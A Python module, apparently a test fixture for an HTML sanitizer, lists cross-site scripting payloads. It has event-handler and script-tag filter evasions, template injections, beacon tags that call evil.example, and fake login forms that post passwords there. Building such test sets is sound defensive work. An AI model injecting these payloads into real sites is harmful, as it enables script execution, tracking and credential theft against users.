"""Texts that would run, call home or ask for a password on a page that took them for markup.

Whatever runs sets ``window.PWNED`` or opens a dialog; whatever calls home asks for an address at evil.example.
"""

_HANDLERS = (
    "<img src=x onerror={0}>", '<img src="x" onerror="{0}">', "<IMG SRC=x OnErRoR={0}>", "<img/src=x/onerror={0}>",
    "<img src=x:x onerror\n={0}>", "<svg onload={0}>", "<svg/onload={0}>", "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>", "<svg><set onbegin={0} attributeName=x>",
    "<svg><image href=x onerror={0}>", "<body onload={0}>", "<body onpageshow={0}>", "<video src=x onerror={0}>",
    "<video><source onerror={0}></video>", "<audio src=x onerror={0}>", "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>",
    "<button autofocus onfocus={0}>", "<a autofocus tabindex=0 onfocus={0}>", "<marquee onstart={0}>x</marquee>",
    "<object data=x onerror={0}>", "<embed src=x onerror={0}>", "<iframe onload={0}></iframe>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>", "<link rel=stylesheet href=x onerror={0}>",
    "<style onload={0}></style>", "<xss style=animation-name:rotate onanimationstart={0}>", "<frameset onload={0}>",
    "<math><mtext></mtext><img src=x onerror={0}></math>", "<table background=x onerror={0}><tr><td>x</table>",
    "<template><img src=x onerror={0}></template>", "<noscript><p title='</noscript><img src=x onerror={0}>'>",
)  # fmt: skip
_SCRIPTS = (
    "<script>{0}</script>", "<SCRIPT>{0}</SCRIPT>", "<script >{0}</script >", "<script\n>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>", "<script src=data:text/javascript,{0}></script>",
    "<script type=module>{0}</script>", "</script><script>{0}</script>", "</style><script>{0}</script>",
    "</title><script>{0}</script>", "</textarea><script>{0}</script>", "--><script>{0}</script>",
    "]]><script>{0}</script>", "'\"><script>{0}</script>", "`><script>{0}</script>", "\\\"><script>{0}</script>",
    "</template><script>{0}</script>", "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e", "+ADw-script+AD4-{0}+ADw-/script+AD4-", "<\u0000script>{0}</script>",
)  # fmt: skip
_TEMPLATES = (
    "${{{0}}}", "{{{{{0}}}}}", "{{% {0} %}}", "<%= {0} %>", "#{{{0}}}", "`${{{0}}}`", "@{{{0}}}", "{{@html {0}}}",
    "[x](javascript:{0})", "<a href=javascript:{0}>x</a>", "![x](x\" onerror=\"{0})", "\";{0}//", "');{0};('",
)  # fmt: skip
_BEACONS = (
    "<img src={0}>", "<img srcset='{0} 2x'>", "<picture><source srcset={0}><img></picture>", "![x]({0})",
    "<video src={0} autoplay>", "<video poster={0}>", "<audio src={0} autoplay>", "<link rel=stylesheet href={0}>",
    "<link rel=prefetch href={0}>", "<link rel=preconnect href={0}>", "<script src={0}></script>",
    "<iframe src={0}></iframe>", "<object data={0}></object>", "<embed src={0}>", "<style>@import '{0}';</style>",
    "<style>* {{ background: url({0}) }}</style>", "<p style='background: url({0})'>x</p>",
    "<input type=image src={0}>", "<meta http-equiv=refresh content='0; url={0}'>",
    "<svg><image href={0} /><use href={0}#x /></svg>",
)  # fmt: skip
_FORMS = (
    "<form action={0}><input type=password autofocus><button>Log in</button></form>", "<input type=password>",
    "<button formaction={0}>Log in</button>", "<iframe src={0}/login></iframe>", "<base href={0}/>",
    "<dialog open><form method=post action={0}><input name=password></form></dialog>",
)  # fmt: skip

SCRIPTS = tuple(
    text.replace("{0}", f"window.PWNED={number}").replace("{{", "{").replace("}}", "}").replace("\x00", "")
    for number, text in enumerate((*_HANDLERS, *_SCRIPTS, *_TEMPLATES), start=1)
)
BEACONS = tuple(text.format(f"https://evil.example/{number}") for number, text in enumerate(_BEACONS))
FORMS = tuple(text.format("https://evil.example") for text in _FORMS)
HOSTILE = (*SCRIPTS, *BEACONS, *FORMS)
